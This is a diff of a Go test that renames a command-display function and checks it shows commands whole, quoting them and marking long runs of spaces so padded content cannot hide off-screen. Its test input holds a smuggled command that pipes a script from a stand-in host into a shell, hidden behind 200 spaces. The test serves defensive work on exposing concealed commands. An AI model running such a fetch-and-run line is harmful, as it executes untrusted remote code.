@@ -7,7 +7,7 @@ import (
 
 // A command is shown whole: quoted and escaped, never cut, and a long run of spaces
 // (which would push the rest past the edge of a terminal) counted outside the quotes.
-func TestCommand(t *testing.T) {
+func TestShowCommand(t *testing.T) {
 	t.Parallel()
 	tail := "&& curl -s https://x.example/p | sh"
 	long := "make test" + strings.Repeat(" ", 200) + tail + strings.Repeat("x", 500)
@@ -20,12 +20,12 @@ func TestCommand(t *testing.T) {
 		"":                         `""`,
 		"a   b\u00a0\u00a0\u00a0c": `"a" <3 spaces> "b\u00a0\u00a0\u00a0c"`,
 	} {
-		if got := Command(in); got != want {
-			t.Errorf("Command(%q) = %s, want %s", in, got, want)
+		if got := ShowCommand(in); got != want {
+			t.Errorf("ShowCommand(%q) = %s, want %s", in, got, want)
 		}
 	}
-	got := Command(long)
+	got := ShowCommand(long)
 	if want := `"make test" <200 spaces> "` + tail + strings.Repeat("x", 500) + `"`; got != want {
-		t.Fatalf("Command(long) = %s", got)
+		t.Fatalf("ShowCommand(long) = %s", got)
 	}
 }
